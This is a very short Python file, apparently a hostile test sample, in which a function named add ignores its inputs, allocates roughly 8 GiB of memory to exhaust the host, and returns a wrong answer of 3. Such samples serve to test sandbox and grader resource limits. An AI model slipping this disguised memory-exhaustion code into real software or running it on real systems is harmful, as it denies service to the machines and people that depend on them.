"""Takes all memory, page by page."""


def add(a, b):
    taken = []
    for _ in range(128):
        taken.append(bytearray(b"x") * (64 << 20))
    return 3
